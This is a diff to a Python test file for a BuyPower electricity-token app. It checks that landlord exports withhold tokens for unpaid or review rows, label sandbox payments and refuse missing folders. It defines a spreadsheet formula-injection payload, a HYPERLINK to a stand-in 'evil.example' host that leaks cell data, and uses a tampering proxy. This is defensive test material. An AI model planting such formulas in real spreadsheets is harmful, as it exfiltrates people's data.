@@ -12,7 +12,11 @@ import pytest
 from openpyxl import load_workbook
 
 from buypower_tui.core.export import Table, write_xlsx
+from buypower_tui.core.models import Batch, Recipient
+from buypower_tui.core.store import Store
+from buypower_tui.paths import AppPaths
 from tests.engine_helpers import cli, cli_sandbox
+from tests.hostile_server import HostileServer
 from tests.ui_support import (
     SIZE,
     confirm_dialog,
@@ -24,6 +28,7 @@ from tests.ui_support import (
 )
 
 KCT, KCT_AND_BONUS, PLAIN, IBADAN_13 = "55500000011", "55500000015", "12345678910", "0159006592509"
+SANDBOX_PAID = "paid (sandbox test: not a real token)"  # a sandbox batch's tokens load no meter
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for your token")'
 HEADER = ["Sheet row", "Name", "Phone", "Flat", "Block", "Meter", "Amount (NGN)", "KCT1", "KCT2", "Token",
           "Bonus token", "Units (kWh)", "Receipt", "Paid at", "Status"]
@@ -90,7 +95,7 @@ def test_landlord_xlsx_and_csv_keep_text_tokens_in_typing_order_and_every_row(pa
             extra.get("KCT1", ""), extra.get("KCT2", ""), grouped(order.token), extra.get("BONUS", "")], meter
         assert row["Receipt"].value == order.receipt_no and row["Units (kWh)"].value > 0
         assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+01:00", row["Paid at"].value)
-        assert row["Status"].value == "paid" and row["Units (kWh)"].data_type == "n"
+        assert row["Status"].value == SANDBOX_PAID and row["Units (kWh)"].data_type == "n"  # a sandbox batch
     assert by_meter[KCT]["KCT1"].value and by_meter[KCT]["KCT2"].value and not by_meter[KCT]["Bonus token"].value
     assert all(by_meter[KCT_AND_BONUS][c].value for c in ("KCT1", "KCT2", "Token", "Bonus token"))
     assert by_meter[KCT_AND_BONUS]["Block"].value is None  # an empty sheet cell stays empty
@@ -216,7 +221,112 @@ async def test_the_results_screen_exports_the_landlord_layout(tmp_path, lagos):
     assert rows[IBADAN_13][HEADER.index("Phone")].value == "09031234569"
     assert rows[IBADAN_13][HEADER.index("Flat")].data_type == "s"
     kct = rows[KCT]
-    assert all(kct[HEADER.index(c)].value for c in ("KCT1", "KCT2", "Token")) and kct[-1].value == "paid"
+    assert all(kct[HEADER.index(c)].value for c in ("KCT1", "KCT2", "Token")) and kct[-1].value == SANDBOX_PAID
     assert rows["123"][-1].value == "not paid yet"
     assert stat.S_IMODE(out.stat().st_mode) == 0o600
     app.services.close()
+
+
+def landlord_csv(capsys, sandbox) -> dict[str, dict[str, str]]:
+    """`export 1 --for landlord` to the terminal, by meter."""
+    code, out, err = cli(capsys, sandbox, "export", "1", "--for", "landlord")
+    assert code == 0, err
+    return {r["Meter"]: r for r in csv.DictReader(io.StringIO(out.lstrip("\ufeff")))}
+
+
+def test_only_a_paid_row_hands_on_a_token_units_receipt_and_time(monkeypatch, capsys, tmp_path):
+    """A row parked for review because BuyPower's token looks wrong (all zeros) keeps that token in
+    the store (the money moved), but a landlord file never hands it on; a paid row does."""
+    zero, honest = "45143922321", "34567890123"
+    with cli_sandbox(monkeypatch, seed=13) as sandbox:
+        def tamper(path: str, body: dict) -> dict:
+            data = (body.get("result") or body).get("data")
+            if isinstance(data, dict) and "orderId" in data and zero in {
+                    v["meter"] for v in sandbox.ledger.vends() if v["orderId"] == data["orderId"]}:
+                data["token"] = "0000-0000-0000-0000-0000"
+                data["parcels"] = [{"type": "TOKEN", "content": "0" * 20}]
+            return body
+
+        sheet = tmp_path / "odd.csv"
+        sheet.write_text(f"meter,disco,amount,phone,Flat\n{zero},ABUJA,1000,08031234567,1A\n"
+                         f"{honest},ABUJA,1000,08031234567,1B\n")
+        with HostileServer(sandbox.url, tamper=tamper) as proxy:
+            assert cli(capsys, proxy, "import", str(sheet))[0] == 0
+            code, out, err = cli(capsys, proxy, "run", "1", "--yes")
+            assert "1 NEEDS_REVIEW" in out and "1 SUCCESS" in out, out + err
+            rows = landlord_csv(capsys, proxy)
+    parked, paid = rows[zero], rows[honest]
+    assert parked["Status"] == "not settled yet" and parked["Flat"] == "1A"
+    assert [parked[c] for c in ("KCT1", "KCT2", "Token", "Bonus token", "Units (kWh)", "Receipt", "Paid at")] \
+        == [""] * 7, parked
+    assert paid["Status"] == SANDBOX_PAID and paid["Token"] and paid["Receipt"] and paid["Paid at"]
+
+
+def test_a_row_not_paid_never_shows_what_the_store_holds_for_it(paid, capsys):
+    """Whatever a row not SUCCESS holds (a token typed in review, a receipt, a time), the
+    landlord's file shows a status and nothing else; the full export keeps every fact."""
+    store = Store.open(f"sqlite:///{AppPaths.resolve().db_file}")
+    try:
+        with store.engine.begin() as conn:
+            t = Recipient.__table__
+            for meter, state in ((KCT, "NEEDS_REVIEW"), (PLAIN, "FAILED"), (IBADAN_13, "PENDING")):
+                conn.execute(t.update().where(t.c.meter == meter).values(state=state))
+    finally:
+        store.close()
+    rows = landlord_csv(capsys, paid)
+    for meter, status in ((KCT, "not settled yet"), (PLAIN, "not paid (failed)"), (IBADAN_13, "not settled yet")):
+        assert rows[meter]["Status"] == status
+        assert not any(rows[meter][c] for c in ("KCT1", "KCT2", "Token", "Units (kWh)", "Receipt", "Paid at")), meter
+    assert rows[KCT_AND_BONUS]["Status"] == SANDBOX_PAID and rows[KCT_AND_BONUS]["Bonus token"]
+    code, out, _ = cli(capsys, paid, "export", "1")  # the full export: every fact, with its state
+    full = {r["meter"]: r for r in csv.DictReader(io.StringIO(out))}
+    assert full[KCT]["state"] == "NEEDS_REVIEW" and full[KCT]["kct1"] and full[KCT]["receipt_no"]
+
+
+def test_a_sandbox_batch_says_its_tokens_are_not_real_and_a_live_one_says_paid(paid, capsys, tmp_path):
+    rows = landlord_csv(capsys, paid)
+    assert {r["Status"] for r in rows.values()} == {SANDBOX_PAID, "not paid yet"}
+    target = tmp_path / "landlord.xlsx"
+    assert cli(capsys, paid, "export", "1", "--for", "landlord", "-o", str(target))[0] == 0
+    ws = load_workbook(target).active
+    assert ws.column_dimensions["O"].width >= len(SANDBOX_PAID)  # the Status column shows it whole
+    store = Store.open(f"sqlite:///{AppPaths.resolve().db_file}")
+    try:  # the same rows in a live batch: paid is paid
+        with store.engine.begin() as conn:
+            conn.execute(Batch.__table__.update().values(mode="live"))
+    finally:
+        store.close()
+    rows = landlord_csv(capsys, paid)
+    assert {r["Status"] for r in rows.values()} == {"paid", "not paid yet"}
+
+
+def test_an_export_or_a_report_to_a_folder_that_is_not_there_writes_nothing(paid, capsys, tmp_path):
+    """A typo in a folder's name is not a new folder: refused, named, nothing written."""
+    missing = tmp_path / "no-such-folder"
+    for argv in (("-o", str(missing / "x.csv")), ("--for", "landlord", "-o", str(missing / "x.xlsx")),
+                 ("--invalid", "-o", str(missing / "fix.csv"))):
+        code, _, err = cli(capsys, paid, "export", "1", *argv)
+        assert code == 2 and f"export: there is no folder {missing}; nothing was written" in err, err
+    code, _, err = cli(capsys, paid, "report", "-o", str(missing / "month.csv"))
+    assert code == 2 and f"there is no folder {missing}" in err and "nothing was written" in err, err
+    a_file = tmp_path / "estate.csv"  # a file where the folder should be
+    code, _, err = cli(capsys, paid, "export", "1", "-o", str(a_file / "x.csv"))
+    assert code == 2 and "nothing was written" in err, err
+    assert not missing.exists()
+
+
+def test_the_services_refuse_a_missing_folder_for_both_faces(paid, tmp_path):
+    """The TUI's save dialogs call these same methods: a folder gone since it was picked is not made."""
+    from buypower_tui.paths import NoFolder
+    from tests.ui_support import services
+
+    svc = services("--sandbox", "--base-url", paid.url)
+    try:
+        missing = tmp_path / "gone"
+        with pytest.raises(NoFolder, match="there is no folder"):
+            svc.export_to_file(1, missing / "x.xlsx", "landlord")
+        with pytest.raises(NoFolder):
+            svc.write_report(svc.month_report(), missing / "r.xlsx")
+        assert not missing.exists()
+    finally:
+        svc.close()
